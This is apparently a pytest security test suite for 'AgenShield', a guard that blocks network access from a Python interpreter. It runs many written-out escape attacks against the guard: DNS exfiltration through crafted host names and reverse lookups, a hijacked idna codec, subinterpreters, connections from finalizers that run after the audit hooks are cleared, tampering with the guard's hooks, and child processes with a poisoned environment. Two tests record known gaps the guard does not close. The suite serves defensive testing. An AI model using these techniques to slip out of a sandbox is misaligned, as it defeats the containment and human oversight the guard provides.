"""A determined attacker in the guarded interpreter (issue 14): each attack in a fresh interpreter.

Proof is what arrived: DNS queries at a fake resolver, TCP connections and datagrams at listeners,
all on 127.0.0.2 inside a private network namespace (netns_harness.py), or at the loopback
listeners of conftest. Every attack also runs once with the shim disabled (or unlocked), the
control: it must reach its target there, so a test that proves nothing fails.

Classes (the issue's numbering): 4 names resolved before the audit event, 3 host names translated
by a codec the attacker controls, 5 the .pth fallback, 6 children with a crafted environment,
2 subinterpreters, 1 code running after CPython has cleared the audit hooks (closed by a seccomp filter).
"""

import shutil
import textwrap
from pathlib import Path
from typing import Any, Dict, Optional

import pytest

from . import netns_harness
from .conftest import Listener, ShimEnv, clean_env, skip_unless_local

PRELUDE = textwrap.dedent(
    """
    import sys
    HOST, PORT, UPORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 0
    def report(exc):
        print("BLOCKED %s: %s" % (type(exc).__name__, exc))
    """
)

DISABLED = {"AGENSHIELD_ENABLED": "false"}


def run_netns(shim: ShimEnv, tmp_path: Path, code: str, env: Optional[Dict[str, str]] = None) -> Dict[str, Any]:
    """Run PRELUDE + code in the shim's Python inside the namespace; what reached the servers."""
    if not netns_harness.usable():
        skip_unless_local("unshare -n -m (root or user namespaces) and ip are needed for the DNS proof")
    argv = [shim.python, "-c", PRELUDE + textwrap.dedent(code)]
    return netns_harness.run_beside(argv, clean_env(**(env or {})), tmp_path)


def exfil(report: Dict[str, Any]) -> list:
    """The queries that carry the attack's marker (the resolver may also be asked for other names)."""
    return [name for name in report["queries"] if "exfil" in name or name.endswith("in-addr.arpa")]


def assert_nothing_arrived(report: Dict[str, Any]) -> None:
    assert not exfil(report) and report["tcp"] == 0 and report["udp"] == 0, report


def assert_control_arrived(report: Dict[str, Any]) -> None:
    assert exfil(report) or report["tcp"] or report["udp"], "the attack reaches nothing even unguarded: %r" % report


# -- class 4: names resolved before the audit event ----------------------------------------------------------------

NAME_ATTACKS = {
    "connect": "socket.socket().connect(('exfil-connect.example', PORT))",
    "connect_ex": "print('RETURNED', socket.socket().connect_ex(('exfil-connectex.example', PORT)))",
    "sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('exfil-sendto.example', UPORT))",
    "sendto with flags": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', 0, ('exfil-flags.example', UPORT))",
    "sendmsg": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('exfil-sendmsg.example', UPORT))",
    "bind": "socket.socket().bind(('exfil-bind.example', 0))",
    "ssl socket connect": "import ssl; ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='x').connect(('exfil-ssl.example', PORT))",
    "asyncio sock_connect": (
        "import asyncio\n"
        "async def main():\n"
        "    s = socket.socket(); s.setblocking(False)\n"
        "    await asyncio.get_running_loop().sock_connect(s, ('exfil-asyncio.example', PORT))\n"
        "asyncio.run(main())"
    ),
    "reverse lookup of 127.x.y.z (24 bits out)": "socket.gethostbyaddr('127.1.2.3')",
    "getnameinfo of 127.x.y.z": "socket.getnameinfo(('127.4.5.6', 80), 0)",
    "reverse lookup of a name": "socket.gethostbyaddr('exfil-reverse.example')",
    "getaddrinfo": "socket.getaddrinfo('exfil-gai.example', PORT)",
    "gethostbyname": "socket.gethostbyname('exfil-ghbn.example')",
    "gethostbyname_ex": "socket.gethostbyname_ex('exfil-ghbnex.example')",
}


def _wrap(call: str) -> str:
    return "import socket\ntry:\n%s\n    print('DONE')\nexcept OSError as e:\n    report(e)\n" % textwrap.indent(call, "    ")


@pytest.mark.parametrize("attack", sorted(NAME_ATTACKS))
def test_a_name_is_refused_before_the_resolver_runs(shim: ShimEnv, tmp_path: Path, attack: str) -> None:
    code = _wrap(NAME_ATTACKS[attack])
    guarded = run_netns(shim, tmp_path, code)
    assert_nothing_arrived(guarded)
    assert "BLOCKED NetworkBlockedError: AgenShield:" in guarded["output"], guarded
    assert_control_arrived(run_netns(shim, tmp_path, code, DISABLED))


def test_an_allowed_name_still_resolves_and_connects(shim: ShimEnv, tmp_path: Path) -> None:
    code = _wrap("socket.create_connection(('exfil-allowed.example', PORT), timeout=5).close(); print('CONNECTED')\n"
                 "socket.socket().connect(('exfil-allowed.example', PORT)); print('CONNECTED')")
    report = run_netns(shim, tmp_path, code, {"AGENSHIELD_ALLOW": "exfil-allowed.example:{PORT}"})
    assert report["output"].count("CONNECTED") == 2 and report["tcp"] == 2, report
    assert set(exfil(report)) == {"exfil-allowed.example"}, report


@pytest.mark.xfail(strict=True, reason="_socket.socket's C methods resolve a name before raising their audit event; "
                   "only the OS layer (--sandbox netns) stops that query (README, 'Which layer stops what')")
def test_gap_the_c_method_called_directly_resolves_first(shim: ShimEnv, tmp_path: Path) -> None:
    code = _wrap("import _socket\n_socket.socket.connect(socket.socket(), ('exfil-unbound.example', PORT))")
    guarded = run_netns(shim, tmp_path, code)
    assert "BLOCKED NetworkBlockedError" in guarded["output"] and guarded["tcp"] == 0, guarded  # refused...
    assert_nothing_arrived(guarded)  # ...but the query has left


# -- class 3: host names translated by a codec the attacker controls ----------------------------------------------

#: Plants an ``idna`` codec (before anything looked the real one up) that answers ``ANSWER``.
FAKE_IDNA = textwrap.dedent(
    """
    import codecs, sys, types
    fake = types.ModuleType("encodings.idna")
    def encode(text, errors="strict"):
        return ANSWER, len(text)
    def decode(data, errors="strict"):
        return str(data, "ascii"), len(data)
    fake.getregentry = lambda: codecs.CodecInfo(encode, decode, name="idna")
    sys.modules["encodings.idna"] = fake
    class Host(str):
        pass
    """
)

CODEC_ATTACKS = {
    # a str subclass holding the broker's name: the guard read "localhost", the kernel got 127.0.0.2
    "connect, str subclass": ("b'127.0.0.2'", "socket.socket().connect((Host('localhost'), PORT))", "PORT"),
    "C connect, str subclass": ("b'127.0.0.2'", "import _socket\n_socket.socket.connect(socket.socket(), (Host('localhost'), PORT))", "PORT"),
    "sendto, str subclass": ("b'127.0.0.2'", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (Host('localhost'), UPORT))", "UPORT"),
    # every str given to the C lookups goes through the codec: an allowed name becomes another one
    "_socket.getaddrinfo": ("b'exfil-gai.example'", "import _socket\n_socket.getaddrinfo('localhost', 80)", None),
    "_socket.gethostbyname": ("b'exfil-ghbn.example'", "import _socket\n_socket.gethostbyname('localhost')", None),
    "_socket.gethostbyaddr": ("b'exfil-ghba.example'", "import _socket\n_socket.gethostbyaddr('127.0.0.1')", None),
    "an address literal": ("b'exfil-literal.example'", "import _socket\n_socket.getaddrinfo('127.0.0.1', 80)", None),
}


@pytest.mark.parametrize("attack", sorted(CODEC_ATTACKS))
def test_the_guard_judges_what_the_kernel_gets_not_what_the_codec_read(shim: ShimEnv, tmp_path: Path, attack: str) -> None:
    answer, call, broker_port = CODEC_ATTACKS[attack]
    code = "ANSWER = %s\n%s%s" % (answer, FAKE_IDNA, _wrap(call))
    # the broker is localhost on the listener's port: what the guard reads ("localhost") is allowed
    env = {"AGENSHIELD_BROKER_PORT": "{%s}" % broker_port} if broker_port else {}
    guarded = run_netns(shim, tmp_path, code, env)
    assert_nothing_arrived(guarded)
    assert "BLOCKED NetworkBlockedError: AgenShield:" in guarded["output"], guarded
    assert_control_arrived(run_netns(shim, tmp_path, code, dict(env, **DISABLED)))


def test_the_socket_module_passes_the_exact_bytes(shim: ShimEnv, tmp_path: Path) -> None:
    # With the codec replaced, the socket module's own lookups still resolve what the caller wrote.
    code = "ANSWER = b'exfil-module.example'\n%s%s" % (
        FAKE_IDNA, _wrap("print(sorted({i[4][0] for i in socket.getaddrinfo('localhost', 80)}))\n"
                         "print(socket.gethostbyname('localhost'))\nsocket.create_connection(('localhost', 1), 1)"))
    guarded = run_netns(shim, tmp_path, code)
    assert_nothing_arrived(guarded)
    assert "127.0.0.1" in guarded["output"] and "NetworkBlockedError" in guarded["output"], guarded
    assert_control_arrived(run_netns(shim, tmp_path, code, DISABLED))


# -- class 2: subinterpreters --------------------------------------------------------------------------------------

SUBINTERPRETER_ATTACKS = {
    "_testcapi.run_in_subinterp": "import _testcapi\n_testcapi.run_in_subinterp(CHILD)",
    "_xxsubinterpreters / _interpreters": (
        "m = __import__('_interpreters' if sys.version_info >= (3, 13) else '_xxsubinterpreters')\n"
        "i = m.create()\n(m.exec if hasattr(m, 'exec') else m.run_string)(i, CHILD)"
    ),
    "_testcapi loaded under another name": (
        "import importlib.util, os\n"
        "path = [os.path.join(d, n) for d in sys.path if os.path.isdir(d) for n in os.listdir(d)\n"
        "        if n.startswith('_testcapi.') and n.endswith('.so')][0]\n"
        "spec = importlib.util.spec_from_file_location('evil._testcapi', path)\n"
        "m = importlib.util.module_from_spec(spec)\nm.run_in_subinterp(CHILD)"
    ),
}

SUB_CHILD = "import socket, sys\ntry:\n    socket.socket().connect(('127.0.0.2', %d))\nexcept OSError as e:\n    print('SUB BLOCKED', e)\n"


@pytest.mark.parametrize("attack", sorted(SUBINTERPRETER_ATTACKS))
def test_subinterpreters_cannot_be_created(shim: ShimEnv, tcp_listener: Listener, attack: str) -> None:
    code = PRELUDE + "CHILD = %r %% PORT\ntry:\n%s\nexcept Exception as e:\n    report(e)\n" % (
        SUB_CHILD, textwrap.indent(SUBINTERPRETER_ATTACKS[attack], "    "))
    result = shim.run(code, tcp_listener.host, str(tcp_listener.port))
    output = result.stdout + result.stderr
    assert tcp_listener.settle() == 0, output
    assert "BLOCKED ImportError: AgenShield:" in output and "subinterpreters" in output, output
    control = shim.run(code, tcp_listener.host, str(tcp_listener.port), env=DISABLED)
    if "No module named" in control.stdout + control.stderr or "IndexError" in control.stdout + control.stderr:
        skip_unless_local("this Python has no %s" % attack)
    assert tcp_listener.settle() >= 1, control.stdout + control.stderr


# -- class 1: after CPython has cleared the audit hooks ----------------------------------------------------------
# The guard answers CPython's last hooked event of a teardown with a seccomp filter (_boot.teardown); each
# finalizer below runs after the hook list is gone, each in a fresh interpreter.

TEARDOWN = textwrap.dedent(
    """
    import codecs, os
    def run(act, write=os.write, base=BaseException, kind=type):  # builtins are gone by then: bound here
        try:
            act()
        except base as e:
            write(2, b"TEARDOWN BLOCKED %s\\n" % kind(e).__name__.encode())
        else:
            write(2, b"TEARDOWN RAN\\n")
    class Finalizer:
        def __init__(self, act):
            self.act = act
        def __del__(self, run=run):
            run(self.act)
    """
)

#: What the finalizer does (ACT), set up while the hooks are still there. (The C type: at teardown the
#: socket module's Python methods have lost their module's globals. With ``_socket`` alone, 3.9 crashes
#: (SIGSEGV) in such a finalizer, hence ``socket`` imported too.)
TEARDOWN_ACTIONS = {
    "a new TCP connection": "import _socket, socket\nACT = lambda s=_socket.socket, a=(HOST, PORT): s().connect(a)",
    "a socket made before, connected in the finalizer": (
        "import _socket, socket\nACT = lambda s=_socket.socket(), a=(HOST, PORT): s.connect(a)"
    ),
    "a UDP datagram from a socket made before": (
        "import _socket, socket\nACT = lambda s=_socket.socket(2, 2), a=(HOST, UPORT): s.sendto(b'x', a)"
    ),
    "sendmsg from a socket made before": (
        "import _socket, socket\nACT = lambda s=_socket.socket(2, 2), a=(HOST, UPORT): s.sendmsg([b'x'], [], 0, a)"
    ),
    # a child of "python -S" is the OS layer's (README); one started after the hooks are gone inherits the filter
    "a child process started in the finalizer": (
        "import socket, sys\n"
        "CHILD = 'import socket\\ntry:\\n    socket.create_connection((%r, %d), 5)\\nexcept OSError as e:\\n    print(\"CHILD BLOCKED\", e)' % (HOST, PORT)\n"
        "ACT = lambda spawn=os.posix_spawn, wait=os.waitpid, exe=sys.executable: wait(spawn(exe, [exe, '-S', '-c', CHILD], {}), 0)"
    ),
    # 3.12 still loads multi-phase extension modules then: _socket, never imported before
    "_socket loaded after the hooks are gone": (
        "import _imp, importlib.util, sys\nSPEC = importlib.util.find_spec('_socket')\nassert '_socket' not in sys.modules\n"
        "def ACT(spec=SPEC, make=_imp.create_dynamic, run=_imp.exec_dynamic, builtin=_imp.create_builtin, a=(HOST, PORT)):\n"
        "    m = builtin(spec) if spec.origin == 'built-in' else make(spec)\n"
        "    run(m)\n"
        "    m.socket().connect(a)"
    ),
}

#: Where the finalizer is kept: objects CPython releases only after it has cleared the hooks.
TEARDOWN_HOLDERS = {
    "an audit hook": "sys.addaudithook(lambda event, args, keep=Finalizer(ACT): None)",
    "a codec search function": "codecs.register(lambda name, keep=Finalizer(ACT): None)",
    "a codec error handler": "codecs.register_error('x-teardown', lambda error, keep=Finalizer(ACT): None)",
    "os.register_at_fork": "os.register_at_fork(before=lambda keep=Finalizer(ACT): None)",
    "sys.monitoring (3.12+)": (
        "sys.monitoring.use_tool_id(3, 'x')\n"
        "sys.monitoring.register_callback(3, sys.monitoring.events.PY_START, lambda *a, keep=Finalizer(ACT): None)"
    ),
    "a cycle collected in the last collection (3.10+)": (
        "class Cycle:\n    pass\nc = Cycle(); c.me = c; c.keep = Finalizer(ACT)\ncodecs.register(lambda name, keep=c: None)\ndel c"
    ),
    "a warnings filter's category (3.10+)": (
        "import warnings\nwarnings.filterwarnings('ignore', category=type('W', (Warning,), {'keep': Finalizer(ACT)}))"
    ),
}


def _cannot_be_mounted(version: str, holder: str = "", action: str = "") -> Optional[str]:
    """Why this attack cannot be mounted on this Python at all (None: it can). Such a case is not
    skipped: the test checks the premise instead, unguarded (nothing arrives, nothing ran)."""
    minor = tuple(map(int, version.split(".")))
    if "3.12+" in holder and minor < (3, 12):
        return "no sys.monitoring before 3.12"
    if "3.10+" in holder and minor < (3, 10):
        return "3.8 and 3.9 never release it: its finalizer does not run"
    if "after the hooks are gone" in action and minor != (3, 12):
        return "no extension module loads after the hooks are cleared on %s (_boot's teardown section)" % version
    return None


def _assert_premise(shim: ShimEnv, tcp: Listener, udp: Listener, code: str, why: str) -> None:
    control, hits, output = _run_teardown(shim, tcp, udp, code, DISABLED)
    assert hits == 0 and "TEARDOWN RAN" not in output, why + ": but unguarded it got through\n" + output


def _run_teardown(shim: ShimEnv, tcp: Listener, udp: Listener, code: str, env: Optional[Dict[str, str]] = None) -> Any:
    result = shim.run(PRELUDE + code, tcp.host, str(tcp.port), str(udp.port), env=env)
    return result, tcp.settle() + udp.settle(), result.stdout + result.stderr


@pytest.mark.parametrize("holder", sorted(TEARDOWN_HOLDERS))
def test_a_finalizer_after_the_hooks_are_cleared_reaches_nothing(
    shim: ShimEnv, tcp_listener: Listener, udp_listener: Listener, holder: str
) -> None:
    code = TEARDOWN + TEARDOWN_ACTIONS["a new TCP connection"] + "\n" + TEARDOWN_HOLDERS[holder] + "\n"
    why = _cannot_be_mounted(shim.version, holder)
    if why:
        return _assert_premise(shim, tcp_listener, udp_listener, code, why)
    result, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code)
    assert hits == 0, output
    assert "TEARDOWN BLOCKED PermissionError" in output and result.returncode == 0, output
    control, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code, DISABLED)
    assert hits >= 1 and "TEARDOWN RAN" in output, output


LATE_SOCKET = "_socket loaded after the hooks are gone"


@pytest.mark.parametrize("action", sorted(set(TEARDOWN_ACTIONS) - {LATE_SOCKET}))
def test_whatever_the_finalizer_does_after_the_hooks_are_cleared(
    shim: ShimEnv, tcp_listener: Listener, udp_listener: Listener, action: str
) -> None:
    code = TEARDOWN + TEARDOWN_ACTIONS[action] + "\n" + TEARDOWN_HOLDERS["a codec search function"] + "\n"
    result, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code)
    assert hits == 0, output
    assert "TEARDOWN BLOCKED PermissionError" in output or "CHILD BLOCKED [Errno 1]" in output, output
    assert result.returncode == 0, output
    control, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code, DISABLED)
    assert hits >= 1, output


def _late_socket(shim: ShimEnv, tcp: Listener, udp: Listener, env: Optional[Dict[str, str]] = None) -> Any:
    code = TEARDOWN + TEARDOWN_ACTIONS[LATE_SOCKET] + "\n" + TEARDOWN_HOLDERS["a codec search function"] + "\n"
    return _run_teardown(shim, tcp, udp, code, env)


def test_a_socket_first_loaded_after_the_hooks_reaches_nothing_under_lock(
    fresh_shim: ShimEnv, tcp_listener: Listener, udp_listener: Listener
) -> None:
    """3.12 loads ``_socket`` after the hooks are gone; with --lock the guard prepares at every exit."""
    why = _cannot_be_mounted(fresh_shim.version, action=LATE_SOCKET)
    if why:
        return _assert_premise(fresh_shim, tcp_listener, udp_listener, TEARDOWN + TEARDOWN_ACTIONS[LATE_SOCKET] + "\n"
                               + TEARDOWN_HOLDERS["a codec search function"] + "\n", why)
    lock = fresh_shim.site_packages / "agenshield_shim.lock"
    lock.write_text("AGENSHIELD_BROKER_PORT=6969\n")
    try:
        result, hits, output = _late_socket(fresh_shim, tcp_listener, udp_listener)
    finally:
        lock.unlink()
    assert hits == 0 and "TEARDOWN BLOCKED PermissionError" in output and result.returncode == 0, output
    assert _late_socket(fresh_shim, tcp_listener, udp_listener, DISABLED)[1] >= 1  # the attack works unguarded


def test_gap_unlocked_a_socket_first_loaded_after_the_hooks(
    request: pytest.FixtureRequest, shim: ShimEnv, tcp_listener: Listener, udp_listener: Listener
) -> None:
    """Unlocked, nothing arrives where the attack cannot be mounted; on 3.12 it can, and it gets
    through: a strict xfail there (README, Teardown: closing it would cost 4% of every 3.12 start)."""
    result, hits, output = _late_socket(shim, tcp_listener, udp_listener)
    if _cannot_be_mounted(shim.version, action=LATE_SOCKET):
        assert hits == 0 and "TEARDOWN RAN" not in output, output
        return
    request.applymarker(pytest.mark.xfail(
        strict=True, raises=AssertionError,
        reason="3.12: a _socket first loaded by a finalizer after the hooks are gone (_imp.create_dynamic) is "
               "closed only with --lock (README, Teardown)"))
    if _late_socket(shim, tcp_listener, udp_listener, DISABLED)[1] < 1:
        pytest.fail("the attack does not work unguarded either")  # not the AssertionError this xfail expects
    assert hits == 0, output


#: Ways to leave the guard without what it needs to close the network at teardown.
UNPREPARED = {
    "another audit hook vetoes _ctypes' calls then": (
        "import _socket, socket, sys\n"
        "def veto(event, args, prefix='ctypes.', error=RuntimeError):\n"
        "    if event.startswith(prefix):\n"
        "        raise error('vetoed')\n"
        "sys.addaudithook(veto)"
    ),
    "the prepared functions removed": (
        "import _socket, socket, sys\nboot = sys.modules.get('agenshield_shim._boot')\nboot and boot._teardown_tools.clear()"
    ),
    "_socket loaded without an import event": (
        "import _imp, importlib.util\nspec = importlib.util.find_spec('_socket')\n"
        "m = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)\n_imp.exec_dynamic(m)\n"
        "sys.modules.pop('_socket', None)\n_socket = m"
    ),
}


@pytest.mark.parametrize("attack", sorted(UNPREPARED))
def test_a_teardown_the_guard_cannot_close_ends_the_process(
    shim: ShimEnv, tcp_listener: Listener, udp_listener: Listener, attack: str
) -> None:
    code = TEARDOWN + UNPREPARED[attack] + "\nACT = lambda s=_socket.socket, a=(HOST, PORT): s().connect(a)\n" + (
        TEARDOWN_HOLDERS["a codec search function"] + "\nprint('MAIN DONE')\n")
    result, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code)
    assert hits == 0 and "TEARDOWN RAN" not in output and "MAIN DONE" in result.stdout, output
    if result.returncode == 120:
        assert "AgenShield: the network could not be closed for the interpreter's teardown" in result.stderr, output
    else:  # prepared again at exit (installed with --lock, 3.12): the filter holds
        assert "TEARDOWN BLOCKED PermissionError" in output and result.returncode == 0, output
    if shim.version == "3.9" and "without an import event" in attack:
        return  # no control: unguarded, 3.9 crashes (SIGSEGV) in that finalizer without the socket module
    control, hits, output = _run_teardown(shim, tcp_listener, udp_listener, code, DISABLED)
    assert hits >= 1 and control.returncode == 0, output


ORDINARY_EXITS = {
    "sys.exit(3)": ("import socket, sys\nprint('out', end='')\nsys.stderr.write('err')\nsys.exit(3)", 3, "out", "err"),
    "an uncaught exception": ("import socket\nprint('before')\nraise ValueError('boom')", 1, "before\n", "ValueError: boom"),
    "a large buffered write": ("import socket\nprint('x' * 200000, end='')", 0, "x" * 200000, ""),
    "no socket at all": ("import sys\nprint('plain', end='')\nsys.exit(4)", 4, "plain", ""),
    "a daemon thread still running": (
        "import socket, threading, time\nthreading.Thread(target=time.sleep, args=(30,), daemon=True).start()\nprint('ok')",
        0, "ok\n", "",
    ),
    # the child's teardown closes the child's network, not its parent's
    "a forked child ending through its teardown": (
        "import errno, os, socket, sys\npid = os.fork()\nif pid == 0:\n    sys.exit(5)\n"
        "print('child', os.waitpid(pid, 0)[1] >> 8)\n"
        "try:\n    socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5)\n"
        "except OSError as e:\n    print('parent', errno.errorcode[e.errno])",
        0, "child 5\nparent ECONNREFUSED\n", "",
    ),
}


@pytest.mark.parametrize("case", sorted(ORDINARY_EXITS))
def test_ordinary_programs_exit_as_before(shim: ShimEnv, dead_broker_port: int, case: str) -> None:
    code, status, stdout, stderr = ORDINARY_EXITS[case]
    result = shim.run(code, str(dead_broker_port), env={"AGENSHIELD_BROKER_PORT": str(dead_broker_port)})
    assert (result.returncode, result.stdout) == (status, stdout), result.stderr
    assert stderr in result.stderr and "AgenShield" not in result.stderr, result.stderr


# -- class 5: the .pth fallback ------------------------------------------------------------------------------------

FALLBACK_ATTACKS = {
    "hook __code__ replaced": (
        "import gc\nfor f in [o for o in gc.get_objects() if type(o).__name__ == 'function' and o.__name__ == 'h']:\n"
        "    try:\n        f.__code__ = (lambda v, a, *r: None).__code__; print('REPLACED')\n"
        "    except Exception as e: print('REFUSED', e)\n"
    ),
    "hook __defaults__ replaced": (
        "import gc\nfor f in [o for o in gc.get_objects() if type(o).__name__ == 'function' and o.__name__ == 'h']:\n"
        "    try:\n        f.__defaults__ = ('', lambda x: str, str, bytes, str, str.rpartition, Warning, None); print('REPLACED')\n"
        "    except Exception as e: print('REFUSED', e)\n"
    ),
    "address type with a lying metaclass": (
        "class Meta(type):\n    def __eq__(cls, other): return True\n    __hash__ = type.__hash__\n"
        "class Address(tuple, metaclass=Meta): pass\n"
        "ADDRESS = Address((HOST, PORT))\n"
    ),
    "builtins replaced": "import builtins\nbuiltins.type = lambda o: str\nbuiltins.ConnectionRefusedError = Warning\n",
}


def test_the_fallback_is_sealed(fresh_shim: ShimEnv, tcp_listener: Listener) -> None:
    boot = fresh_shim.site_packages / "agenshield_shim" / "_boot.py"
    shutil.rmtree(boot.parent / "__pycache__", ignore_errors=True)
    boot.write_text("raise RuntimeError('broken on purpose')\n")
    for attack, setup in sorted(FALLBACK_ATTACKS.items()):
        code = PRELUDE + "import _socket\nADDRESS = (HOST, PORT)\n" + setup + textwrap.dedent(
            """
            _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM).close()  # Unix sockets stay allowed
            try:
                _socket.socket().connect(ADDRESS); print("CONNECTED")
            except OSError as e: report(e)
            """
        )
        result = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port))
        output = result.stdout + result.stderr
        assert tcp_listener.settle() == 0, attack + ":\n" + output
        assert "CONNECTED" not in output and "REPLACED" not in output, attack + ":\n" + output
        assert "AgenShield: network blocked: agenshield-shim failed to start" in output, attack + ":\n" + output
    for call in ["__import__('socket').socket().bind(('exfil.example', 0))", "__import__('_testcapi')",
                 "__import__('socket').getaddrinfo('localhost', 80)", "__import__('_socket').gethostbyaddr(b'127.0.0.1')",
                 "__import__('socket').socket(2, 3, 1)"]:
        result = fresh_shim.run("try:\n    %s\n    print('DONE')\nexcept Exception as e:\n    print('REFUSED', e)\n" % call)
        assert result.stdout.startswith("REFUSED AgenShield: network blocked"), call + ": " + result.stdout + result.stderr


# -- class 6: children with a crafted environment, under --lock ----------------------------------------------------

#: A module a child imports before ``site`` when PYTHONWARNINGS names it as a category: it makes the
#: child's .pth believe the shim has booted already.
EVIL_WARNING = "import sys\nsys.modules['agenshield_shim._boot'] = sys\nclass W(Warning):\n    pass\n"
CHILD = ("import socket, sys\ntry:\n    socket.socket().connect(('127.0.0.2', int(sys.argv[1]))); print('CHILD CONNECTED')\n"
         "except OSError as e:\n    print('CHILD BLOCKED', e)\n")

SPAWN_ATTACKS = {
    "subprocess, PYTHONWARNINGS category + PYTHONPATH": (
        "import subprocess\nsubprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=EVIL)"
    ),
    "subprocess, PYTHONWARNINGS only (module on the inherited path)": (
        "import subprocess\nenv = dict(os.environ); env['PYTHONWARNINGS'] = 'ignore::evilwarn.W'\n"
        "subprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=env)"
    ),
    "os.posix_spawn": "os.waitpid(os.posix_spawn(sys.executable, [sys.executable, '-c', CHILD, str(PORT)], EVIL), 0)",
    "os.execve": "sys.stdout.flush(); os.execve(sys.executable, [sys.executable, '-c', CHILD, str(PORT)], EVIL)",
    "os.environ then a child": (
        "os.environ['PYTHONPATH'] = EVIL['PYTHONPATH']; os.environ['PYTHONWARNINGS'] = EVIL['PYTHONWARNINGS']\n"
        "import subprocess\nsubprocess.run([sys.executable, '-c', CHILD, str(PORT)])"
    ),
    "a mapping that answers twice": (
        "import collections.abc, subprocess\n"
        "class Env(collections.abc.Mapping):\n"
        "    def __getitem__(self, k): return EVIL[k]\n    def __iter__(self): return iter(EVIL)\n    def __len__(self): return len(EVIL)\n"
        "subprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=Env())"
    ),
}


@pytest.mark.parametrize("attack", sorted(SPAWN_ATTACKS))
def test_locked_guard_refuses_children_with_a_weakening_environment(
    fresh_shim: ShimEnv, tcp_listener: Listener, tmp_path: Path, attack: str
) -> None:
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "evilwarn.py").write_text(EVIL_WARNING)
    code = PRELUDE + "import os\nCHILD = %r\nEVIL = dict(os.environ, PYTHONPATH=%r, PYTHONWARNINGS='ignore::evilwarn.W')\n" % (
        CHILD, str(evil)) + "try:\n%s\nexcept Exception as e:\n    report(e)\n" % textwrap.indent(SPAWN_ATTACKS[attack], "    ")
    inherited = {"PYTHONPATH": str(evil)} if "inherited" in attack else {}
    lock = fresh_shim.site_packages / "agenshield_shim.lock"
    lock.write_text("AGENSHIELD_BROKER_PORT=6969\n")
    try:
        result = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port), env=inherited)
    finally:
        lock.unlink()
    output = result.stdout + result.stderr
    assert tcp_listener.settle() == 0, output
    assert "BLOCKED PermissionError: AgenShield:" in output and "--lock" in output, output
    assert "CHILD" not in output, output
    # unlocked, the same attack gets through: the README says so
    control = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port), env=inherited)
    assert "CHILD CONNECTED" in control.stdout, control.stdout + control.stderr
    assert tcp_listener.settle() >= 1


def test_locked_guard_lets_ordinary_children_start(fresh_shim: ShimEnv, tmp_path: Path) -> None:
    code = textwrap.dedent(
        """
        import os, subprocess, sys
        child = "import sys; print('CHILD', sys.flags.ignore_environment)"
        subprocess.run([sys.executable, "-c", child], env=dict(os.environ, FOO="1", PYTHONWARNINGS="ignore::DeprecationWarning"))
        subprocess.run([sys.executable, "-c", child], env=dict(os.environ))  # AGENSHIELD_LOG_LEVEL, as inherited
        subprocess.run([sys.executable, "-c", child])
        os.environ["FOO"] = "2"
        print("PARENT OK")
        """
    )
    (fresh_shim.site_packages / "agenshield_shim.lock").write_text("AGENSHIELD_BROKER_PORT=6969\n")
    try:
        result = fresh_shim.run(code, env={"AGENSHIELD_LOG_LEVEL": "error"})
    finally:
        (fresh_shim.site_packages / "agenshield_shim.lock").unlink()
    assert result.stdout.count("CHILD 0") == 3 and "PARENT OK" in result.stdout, result.stdout + result.stderr
